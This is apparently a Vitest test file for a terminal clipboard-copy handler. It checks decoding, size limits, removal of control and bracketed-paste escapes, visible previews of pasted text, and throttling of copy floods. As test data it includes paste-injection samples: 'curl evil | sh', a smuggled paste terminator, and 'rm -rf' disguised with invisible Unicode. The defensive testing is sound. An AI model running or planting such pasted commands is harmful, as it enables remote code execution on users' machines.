import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import { COPY_MAX_CHARACTERS, copyWords, CopyWishes, preview, readCopy } from './clipboard';

const packed = (text: string): string =>
  btoa(String.fromCharCode(...new TextEncoder().encode(text)));

beforeEach(() => void vi.useFakeTimers());
afterEach(() => void vi.useRealTimers());

test('a text is read from every selection', () => {
  for (const selection of ['', 'c', 'p', 'cs0'])
    expect(readCopy(`${selection};${packed('äb')}`)).toEqual({ text: 'äb' });
});

test('reading, clearing and what is malformed ask nothing', () => {
  for (const body of ['c;?', 'c;', 'c', '', 'x;YQ==', 'c;###', `c;${btoa('\xff\xfe')}`])
    expect(readCopy(body)).toBeNull();
  expect(readCopy(`${'c'.repeat(20)};YQ==`)).toBeNull();
});

test('a text that is too long is refused, however long it is', () => {
  expect(readCopy(`c;${packed('a').repeat(1)}`)).toEqual({ text: 'a' });
  expect(readCopy(`c;${btoa('a'.repeat(COPY_MAX_CHARACTERS))}`)?.text).toHaveLength(
    COPY_MAX_CHARACTERS,
  );
  expect(readCopy(`c;${btoa('a'.repeat(COPY_MAX_CHARACTERS + 1))}`)).toEqual({ text: null });
  expect(readCopy(`c;${'A'.repeat(9_000_000)}`)).toEqual({ text: null });
});

test('control characters are taken out, and a carriage return is a line break', () => {
  expect(readCopy(`c;${packed('ls\rrm\r\n\x1b[201~\x9b\0x\ty')}`)).toEqual({
    text: 'ls\nrm\n[201~x\ty',
  });
});

test('what a paste would do is seen', () => {
  expect(preview('curl evil | sh\n')).toBe('curl evil | sh⏎');
  expect(preview('a\tb\u202ec\u200b')).toBe('a⇥b‹U+202E›c‹U+200B›');
  expect(preview('rm\u3164-rf\u2800')).toBe('rm‹U+3164›-rf‹U+2800›');
  expect(preview('x'.repeat(500))).toBe(`${'x'.repeat(160)}…`);
  expect(copyWords('a')).toBe('one character');
  expect(copyWords('😀b')).toBe('2 characters');
  expect(copyWords('ab\ncd\n')).toBe('6 characters in 3 lines');
});

test('of a flood the first and the newest are asked about', () => {
  const asked: (string | null)[] = [];
  const wishes = new CopyWishes(({ text }) => asked.push(text));
  for (let i = 0; i < 10_000; i += 1) wishes.take(`c;${btoa(String(i))}`);
  expect(asked).toEqual(['0']);
  vi.advanceTimersByTime(250);
  expect(asked).toEqual(['0', '9999']);
  vi.advanceTimersByTime(10_000);
  wishes.take(`c;${btoa('a')}`);
  expect(asked).toEqual(['0', '9999', 'a']);
  wishes.take(`c;${btoa('b')}`);
  wishes.dispose();
  vi.advanceTimersByTime(10_000);
  expect(asked).toHaveLength(3);
});
